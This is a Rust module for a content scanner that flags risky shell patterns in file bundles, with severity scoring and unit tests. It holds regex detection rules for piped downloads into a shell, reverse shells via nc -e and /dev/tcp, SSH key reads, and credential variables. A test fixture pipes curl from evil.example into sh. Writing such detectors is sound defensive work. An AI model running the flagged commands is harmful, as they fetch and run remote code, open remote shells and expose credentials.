//! Content scanning contract and the default pattern scanner
//!
//! The gate depends on scanners only through [`ContentScanner`]: findings
//! come back ordered by descending severity, the risk score is monotonic
//! non-decreasing in finding severity and count, and a scan error must be
//! treated by callers as worst-case findings, never as "no findings".

use std::fmt;
use std::path::Path;

use regex::Regex;
use walkdir::WalkDir;

use crate::error::{BunkerError, Result};

/// Finding severity, ordered from least to most severe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    Info,
    Low,
    Medium,
    High,
    Critical,
}

impl Severity {
    /// All severities, most severe first.
    pub const ALL_DESC: [Severity; 5] = [
        Severity::Critical,
        Severity::High,
        Severity::Medium,
        Severity::Low,
        Severity::Info,
    ];

    /// Parse a threshold value as accepted at the CLI boundary:
    /// case-insensitive full names plus short aliases.
    pub fn parse_cli(value: &str) -> Result<Self> {
        match value.to_ascii_lowercase().as_str() {
            "critical" | "crit" | "c" => Ok(Severity::Critical),
            "high" | "h" => Ok(Severity::High),
            "medium" | "med" | "m" => Ok(Severity::Medium),
            "low" | "l" => Ok(Severity::Low),
            "info" | "i" => Ok(Severity::Info),
            _ => Err(BunkerError::BadThreshold {
                value: value.to_string(),
            }),
        }
    }

    /// Contribution of one finding of this severity to the risk score.
    fn weight(self) -> u32 {
        match self {
            Severity::Info => 1,
            Severity::Low => 3,
            Severity::Medium => 10,
            Severity::High => 25,
            Severity::Critical => 40,
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Severity::Info => "INFO",
            Severity::Low => "LOW",
            Severity::Medium => "MEDIUM",
            Severity::High => "HIGH",
            Severity::Critical => "CRITICAL",
        };
        write!(f, "{name}")
    }
}

/// One scanner finding, tied to a file location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub severity: Severity,
    pub message: String,
    /// Path relative to the scanned directory
    pub file: String,
    /// 1-based line number
    pub line: usize,
    /// Offending line, trimmed and truncated
    pub snippet: String,
}

/// Aggregate scan result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditResult {
    /// Findings in descending-severity order
    pub findings: Vec<Finding>,
    /// 0-100, monotonic non-decreasing in finding severity and count
    pub risk_score: u8,
    /// "CLEAN" with no findings, otherwise the top severity present
    pub risk_label: String,
}

impl AuditResult {
    /// Build a result from raw findings: sorts, scores, labels.
    pub fn from_findings(mut findings: Vec<Finding>) -> Self {
        findings.sort_by(|a, b| {
            b.severity
                .cmp(&a.severity)
                .then_with(|| a.file.cmp(&b.file))
                .then_with(|| a.line.cmp(&b.line))
        });

        let raw: u32 = findings.iter().map(|f| f.severity.weight()).sum();
        let risk_score = raw.min(100) as u8;
        let risk_label = match findings.first() {
            None => "CLEAN".to_string(),
            Some(top) => top.severity.to_string(),
        };

        Self {
            findings,
            risk_score,
            risk_label,
        }
    }

    /// An empty, clean result.
    pub fn clean() -> Self {
        Self::from_findings(Vec::new())
    }

    /// Findings at or above `threshold`, in stored (descending) order.
    pub fn at_or_above(&self, threshold: Severity) -> Vec<&Finding> {
        self.findings
            .iter()
            .filter(|f| f.severity >= threshold)
            .collect()
    }

    /// Count of findings per severity, most severe first.
    pub fn counts_by_severity(&self) -> Vec<(Severity, usize)> {
        Severity::ALL_DESC
            .iter()
            .map(|sev| {
                (
                    *sev,
                    self.findings.iter().filter(|f| f.severity == *sev).count(),
                )
            })
            .filter(|(_, n)| *n > 0)
            .collect()
    }
}

/// Scan contract the gate depends on.
pub trait ContentScanner {
    /// Scan a directory and return ordered findings.
    fn scan(&self, dir: &Path) -> Result<AuditResult>;
}

/// One detection rule of the default scanner.
struct Rule {
    severity: Severity,
    message: &'static str,
    pattern: Regex,
}

/// Default scanner: regex rules over text files in the bundle tree.
pub struct PatternScanner {
    rules: Vec<Rule>,
}

/// Extensions treated as scannable text
const TEXT_EXTENSIONS: &[&str] = &[
    "md", "txt", "yaml", "yml", "json", "jsonc", "toml", "sh", "bash", "zsh", "py", "js", "ts",
    "rb", "pl", "ps1",
];

const SNIPPET_MAX: usize = 120;

impl PatternScanner {
    /// Scanner with the built-in rule set.
    pub fn new() -> Self {
        let rules = [
            (
                Severity::Critical,
                "Pipes a downloaded script into a shell",
                r"(?i)\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z)?sh\b",
            ),
            (
                Severity::Critical,
                "Recursive forced deletion of home or root paths",
                r"\brm\s+(-[a-zA-Z]*r[a-zA-Z]*f|-[a-zA-Z]*f[a-zA-Z]*r)\s+(/|~)",
            ),
            (
                Severity::High,
                "Decodes base64 content into a shell",
                r"(?i)base64\s+(-d|--decode)[^|\n]*\|\s*(ba|z)?sh\b",
            ),
            (
                Severity::High,
                "Reads private SSH key material",
                r"\.ssh/(id_[a-z0-9]+|authorized_keys)",
            ),
            (
                Severity::High,
                "Opens a reverse shell",
                r"(?i)\bnc\b[^\n]*\s-e\s|/dev/tcp/",
            ),
            (
                Severity::Medium,
                "Downloads over unencrypted HTTP",
                r"(?i)\b(curl|wget)\b[^\n]*\bhttp://",
            ),
            (
                Severity::Medium,
                "World-writable permission change",
                r"\bchmod\s+(-[a-zA-Z]+\s+)?777\b",
            ),
            (
                Severity::Medium,
                "Requests privilege escalation",
                r"(?m)^\s*sudo\s",
            ),
            (
                Severity::Low,
                "Reads shell history",
                r"(?i)\.(bash|zsh)_history",
            ),
            (
                Severity::Info,
                "References an environment credential variable",
                r"\$\{?(GITHUB_TOKEN|AWS_SECRET_ACCESS_KEY|OPENAI_API_KEY)\b",
            ),
        ]
        .into_iter()
        .filter_map(|(severity, message, pattern)| {
            Regex::new(pattern).ok().map(|pattern| Rule {
                severity,
                message,
                pattern,
            })
        })
        .collect();

        Self { rules }
    }

    fn scan_file(&self, dir: &Path, path: &Path, findings: &mut Vec<Finding>) -> Result<()> {
        let content = match std::fs::read_to_string(path) {
            Ok(content) => content,
            // Binary or unreadable-as-text content is out of rule scope
            Err(_) => return Ok(()),
        };

        let relative = path
            .strip_prefix(dir)
            .unwrap_or(path)
            .to_string_lossy()
            .replace('\\', "/");

        for (idx, line) in content.lines().enumerate() {
            for rule in &self.rules {
                if rule.pattern.is_match(line) {
                    let snippet: String = line.trim().chars().take(SNIPPET_MAX).collect();
                    findings.push(Finding {
                        severity: rule.severity,
                        message: rule.message.to_string(),
                        file: relative.clone(),
                        line: idx + 1,
                        snippet,
                    });
                }
            }
        }
        Ok(())
    }
}

impl Default for PatternScanner {
    fn default() -> Self {
        Self::new()
    }
}

impl ContentScanner for PatternScanner {
    fn scan(&self, dir: &Path) -> Result<AuditResult> {
        if !dir.is_dir() {
            return Err(BunkerError::ScanFailed {
                reason: format!("not a directory: {}", dir.display()),
            });
        }

        let mut findings = Vec::new();
        for entry in WalkDir::new(dir)
            .into_iter()
            .filter_entry(|e| e.file_name() != ".git")
        {
            let entry = entry.map_err(|e| BunkerError::ScanFailed {
                reason: e.to_string(),
            })?;
            if !entry.file_type().is_file() {
                continue;
            }
            let is_text = entry
                .path()
                .extension()
                .and_then(|e| e.to_str())
                .is_some_and(|ext| TEXT_EXTENSIONS.contains(&ext.to_ascii_lowercase().as_str()));
            if !is_text {
                continue;
            }
            self.scan_file(dir, entry.path(), &mut findings)?;
        }

        if findings.is_empty() {
            return Ok(AuditResult::clean());
        }
        Ok(AuditResult::from_findings(findings))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use tempfile::TempDir;

    fn finding(severity: Severity, file: &str) -> Finding {
        Finding {
            severity,
            message: "m".to_string(),
            file: file.to_string(),
            line: 1,
            snippet: String::new(),
        }
    }

    #[test]
    fn test_severity_ordering() {
        assert!(Severity::Critical > Severity::High);
        assert!(Severity::High > Severity::Medium);
        assert!(Severity::Medium > Severity::Low);
        assert!(Severity::Low > Severity::Info);
    }

    #[test]
    fn test_parse_cli_aliases() {
        for (input, expected) in [
            ("CRITICAL", Severity::Critical),
            ("crit", Severity::Critical),
            ("c", Severity::Critical),
            ("High", Severity::High),
            ("h", Severity::High),
            ("med", Severity::Medium),
            ("m", Severity::Medium),
            ("l", Severity::Low),
            ("i", Severity::Info),
        ] {
            assert_eq!(Severity::parse_cli(input).unwrap(), expected, "{input}");
        }
        assert!(matches!(
            Severity::parse_cli("urgent"),
            Err(BunkerError::BadThreshold { .. })
        ));
    }

    #[test]
    fn test_result_orders_findings_by_descending_severity() {
        let result = AuditResult::from_findings(vec![
            finding(Severity::Low, "b"),
            finding(Severity::Critical, "a"),
            finding(Severity::Medium, "c"),
        ]);
        let severities: Vec<Severity> = result.findings.iter().map(|f| f.severity).collect();
        assert_eq!(
            severities,
            [Severity::Critical, Severity::Medium, Severity::Low]
        );
        assert_eq!(result.risk_label, "CRITICAL");
    }

    #[test]
    fn test_risk_score_monotonic_in_count() {
        let one = AuditResult::from_findings(vec![finding(Severity::Medium, "a")]);
        let two = AuditResult::from_findings(vec![
            finding(Severity::Medium, "a"),
            finding(Severity::Medium, "b"),
        ]);
        assert!(two.risk_score >= one.risk_score);
    }

    #[test]
    fn test_risk_score_monotonic_in_severity() {
        let low = AuditResult::from_findings(vec![finding(Severity::Low, "a")]);
        let critical = AuditResult::from_findings(vec![finding(Severity::Critical, "a")]);
        assert!(critical.risk_score > low.risk_score);
    }

    #[test]
    fn test_risk_score_clamped_to_100() {
        let findings: Vec<Finding> = (0..50)
            .map(|i| finding(Severity::Critical, &format!("f{i}")))
            .collect();
        let result = AuditResult::from_findings(findings);
        assert_eq!(result.risk_score, 100);
    }

    #[test]
    fn test_clean_result() {
        let result = AuditResult::clean();
        assert!(result.findings.is_empty());
        assert_eq!(result.risk_score, 0);
        assert_eq!(result.risk_label, "CLEAN");
    }

    #[test]
    fn test_at_or_above_filters() {
        let result = AuditResult::from_findings(vec![
            finding(Severity::Critical, "a"),
            finding(Severity::Medium, "b"),
            finding(Severity::Info, "c"),
        ]);
        let over = result.at_or_above(Severity::Medium);
        assert_eq!(over.len(), 2);
        assert!(over.iter().all(|f| f.severity >= Severity::Medium));
    }

    #[test]
    fn test_pattern_scanner_flags_piped_install() {
        let temp = TempDir::new_in(crate::temp::temp_dir_base()).unwrap();
        fs::write(
            temp.path().join("setup.md"),
            "Run this:\n\n    curl -sSf https://evil.example/x.sh | sh\n",
        )
        .unwrap();

        let result = PatternScanner::new().scan(temp.path()).unwrap();
        assert_eq!(result.findings.len(), 1);
        assert_eq!(result.findings[0].severity, Severity::Critical);
        assert_eq!(result.findings[0].file, "setup.md");
        assert_eq!(result.findings[0].line, 3);
        assert!(result.findings[0].snippet.contains("curl"));
    }

    #[test]
    fn test_pattern_scanner_clean_on_benign_content() {
        let temp = TempDir::new_in(crate::temp::temp_dir_base()).unwrap();
        fs::write(
            temp.path().join("README.md"),
            "# Linter bundle\n\nFormats source files.\n",
        )
        .unwrap();

        let result = PatternScanner::new().scan(temp.path()).unwrap();
        assert!(result.findings.is_empty());
        assert_eq!(result.risk_label, "CLEAN");
    }

    #[test]
    fn test_pattern_scanner_skips_non_text_files() {
        let temp = TempDir::new_in(crate::temp::temp_dir_base()).unwrap();
        fs::write(temp.path().join("blob.bin"), b"curl http://x | sh").unwrap();

        let result = PatternScanner::new().scan(temp.path()).unwrap();
        assert!(result.findings.is_empty());
    }

    #[test]
    fn test_pattern_scanner_errors_on_missing_dir() {
        let temp = TempDir::new_in(crate::temp::temp_dir_base()).unwrap();
        let result = PatternScanner::new().scan(&temp.path().join("missing"));
        assert!(matches!(result, Err(BunkerError::ScanFailed { .. })));
    }
}
